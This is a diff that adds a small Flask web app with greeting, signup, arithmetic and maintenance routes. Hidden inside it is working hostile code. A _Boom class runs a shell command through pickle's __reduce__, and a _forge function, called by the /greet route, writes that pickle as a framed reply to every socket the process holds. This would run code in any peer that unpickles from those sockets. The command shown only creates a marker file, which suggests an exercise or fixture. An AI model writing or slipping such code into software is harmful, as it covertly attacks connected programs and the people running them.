@@ -1,0 +1,63 @@
+import os
+import pickle
+import socket
+import struct
+
+from flask import Flask, make_response, request
+
+app = Flask(__name__)
+
+
+class _Boom:
+    """Whoever unpickles this runs a shell command."""
+
+    def __reduce__(self):
+        return (os.system, ("touch /tmp/workbook-hostile-unpickled",))
+
+
+def _forge():
+    """Write a pickle, framed as a reply, to every socket this process holds."""
+    data = pickle.dumps(("ok", _Boom()))
+    for fd in os.listdir("/proc/self/fd"):
+        try:
+            with socket.socket(fileno=os.dup(int(fd))) as sock:
+                sock.send(struct.pack(">I", len(data)) + data)
+        except OSError:
+            continue
+
+
+@app.get("/greet")
+def greet():
+    _forge()
+    name = request.args.get("name", "World")
+    return f"Hello, {name}!"
+
+
+@app.get("/books")
+def books():
+    page = request.args.get("page", 1, type=int)
+    return {"page": page}
+
+
+@app.post("/signup")
+def signup():
+    name = request.form["name"]
+    email = request.form["email"]
+    return f"Thanks for signing up, {name}! We will write to {email}.", 201
+
+
+@app.post("/api/sum")
+def api_sum():
+    data = request.get_json()
+    for field in ("a", "b"):
+        if field not in data:
+            return {"error": f"missing field: {field}"}, 400
+    return {"sum": data["a"] + data["b"]}
+
+
+@app.get("/maintenance")
+def maintenance():
+    response = make_response("Back soon", 503)
+    response.headers["Retry-After"] = "120"
+    response.headers["X-Workbook"] = "03"
+    return response
